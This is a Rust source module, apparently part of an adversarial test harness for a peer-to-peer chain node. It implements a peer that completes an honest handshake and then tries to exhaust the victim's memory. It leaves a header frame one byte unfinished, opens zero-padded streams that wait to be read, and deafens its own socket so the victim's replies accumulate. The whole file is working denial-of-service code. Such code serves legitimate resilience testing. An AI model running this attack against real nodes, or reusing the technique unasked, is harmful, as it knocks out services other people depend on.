//! A peer that is met in order and then costs the victim as much memory as it can: everything half said, nothing taken.

use super::{
    Raw, Trouble, Victim,
    deaf::DeafSocket,
    identity,
    peer::open,
    wire::{BLOCK_SYNC, BlockStatus, HEADER_SYNC, HeaderStatus, Hello, frame, get_blocks, prelude},
};
use std::{net::SocketAddr, sync::Arc};

/// The longest page of headers (wire 5.2).
const PAGE: u32 = 2_097_152;
/// Blocks asked for, one a request.
const REQUESTS: u32 = 64;
/// Frame bytes that we take on a stream: as much as there may be.
const MAX_FRAME: u32 = 4_194_304;

/// One that fills.
pub(super) struct Filler {
    raw: Raw,
    socket: Arc<DeafSocket>,
}

impl Filler {
    /// Binds this address.
    pub(super) fn bind(number: u64, role: &str, own: SocketAddr) -> Result<Self, Trouble> {
        let socket = DeafSocket::bind(own)?;
        let raw = Raw::over(&identity(number, "fill", role), Arc::clone(&socket))?;
        Ok(Self { raw, socket })
    }

    /// Meets the victim, fills what it can, and stays until the victim has forgotten it: it will not hear of that.
    pub(super) async fn fill(&self, victim: Victim, met: &mut u64) -> Result<(), Trouble> {
        let hello = Hello::honest(victim.network, victim.genesis, self.raw.name()?.id);
        let mut peer = self.raw.dial(victim, &hello).await?;
        let mut headers = peer.stream(HEADER_SYNC).await?;
        headers.say(&HeaderStatus::client(victim.genesis).bytes()).await?;
        let mut blocks = peer.stream(BLOCK_SYNC).await?;
        blocks.say(&BlockStatus::serving(0, victim.genesis).bytes()).await?;
        let status = blocks.hear_a(1).await?;
        let high = BlockStatus::read(&status).map_or(0, |status| status.high);
        *met += 1;
        headers.raw(&all_but_a_byte(PAGE)).await?;
        // A second stream of a kind waits for the end of the first, and what is on it for somebody who reads it.
        let mut waiting = (open(&peer.connection).await?, open(&peer.connection).await?);
        // The two leave as much of the connection's window as it takes to ask: an eighth of it may not be announced yet.
        let (one, other) = (begun(HEADER_SYNC, 2 << 20), begun(BLOCK_SYNC, 512 << 10));
        tokio::join!(waiting.0.pour(&one), waiting.1.pour(&other));
        // What the victim says from here on it has to keep.
        self.socket.deafen();
        for request in 0..REQUESTS {
            blocks.say(&get_blocks(1 + request % high.max(1), 1)).await?;
        }
        peer.connection.closed().await;
        drop((headers, blocks, waiting));
        Ok(())
    }
}

/// A stream of this kind, with so many zeros on it.
fn begun(kind: (u16, u16), zeros: usize) -> Vec<u8> {
    [prelude(kind, MAX_FRAME), vec![0; zeros]].concat()
}

/// A frame of this length that lacks its end.
fn all_but_a_byte(length: u32) -> Vec<u8> {
    let payload = vec![0; usize::try_from(length).unwrap_or_default().saturating_sub(1)];
    frame(3, 0, length, &payload)
}
